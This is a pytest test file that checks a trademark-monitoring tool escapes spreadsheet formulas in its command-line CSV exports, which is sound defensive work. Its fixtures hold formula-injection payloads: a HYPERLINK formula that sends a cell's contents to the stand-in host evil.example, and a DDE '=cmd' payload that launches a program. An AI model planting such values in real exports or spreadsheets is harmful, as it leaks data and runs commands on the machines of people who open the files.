"""CSV written by the command line is formula-escaped as the web exports are: a third-party
listing title such as =HYPERLINK(…) must not run as a formula when the file is opened."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from tests.factories import make_patent, make_product, make_trademark

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"KANGDA")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1 555", "'+1 555"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("KANGDA", "KANGDA"),
        (7, 7),
        (None, None),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "plain-text", "number", "none"],
)
def test_one_escape_for_every_csv(value, expected):
    from monitor.exports import escape_formula

    assert escape_formula(value) == expected


@pytest.fixture
def portfolio(session):
    drill = make_product(
        session, product_id=EVIL, brand="=cmd|' /C calc'!A0", nice_classes=[7], markets=["US"]
    )
    make_patent(session, products=[drill])
    make_trademark(
        session, brand="=cmd|' /C calc'!A0", office="CN", registration_date=dt.date(2023, 1, 1)
    )
    session.commit()


@pytest.mark.parametrize("command", ["matrix", "gaps"])
def test_coverage_csv_is_formula_escaped(runner, portfolio, command):
    result = runner.invoke(args=["coverage", command, "--format", "csv", "--as-of", "2026-11-24"])
    assert result.exit_code == 0, result.output
    [row] = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["market"] == "US"]
    assert row["product_id"] == "'" + EVIL
    assert row["brand"] == "'=cmd|' /C calc'!A0"


def test_similarity_screen_hits_are_formula_escaped(runner, tmp_path: Path):
    (tmp_path / "watch.csv").write_text("id,mark,classes\nW1,KANGDA,7\n", encoding="utf-8")
    cands = io.StringIO()
    csv.writer(cands).writerows([["id", "mark", "classes"], ["=1+1", EVIL, "7"]])
    (tmp_path / "cands.csv").write_text(cands.getvalue(), encoding="utf-8")
    result = runner.invoke(
        args=[
            "similarity",
            "screen",
            "--watch",
            str(tmp_path / "watch.csv"),
            "--candidates",
            str(tmp_path / "cands.csv"),
            "--out",
            str(tmp_path / "hits.csv"),
            "--threshold",
            "0",
        ]
    )
    assert result.exit_code == 0, result.output
    [hit] = csv.DictReader(io.StringIO((tmp_path / "hits.csv").read_text(encoding="utf-8")))
    assert hit["candidate_mark"] == "'" + EVIL
    assert hit["candidate_id"] == "'=1+1"
    assert hit["watch_mark"] == "KANGDA"


def test_similarity_score_output_is_formula_escaped(runner, tmp_path: Path):
    pairs = io.StringIO()
    csv.writer(pairs).writerows([["mark_a", "mark_b"], ["KANGDA", EVIL]])
    (tmp_path / "pairs.csv").write_text(pairs.getvalue(), encoding="utf-8")
    result = runner.invoke(
        args=[
            "similarity",
            "score",
            str(tmp_path / "pairs.csv"),
            "--out",
            str(tmp_path / "out.csv"),
        ]
    )
    assert result.exit_code == 0, result.output
    [row] = csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8")))
    assert row["mark_b"] == "'" + EVIL and row["mark_a"] == "KANGDA"
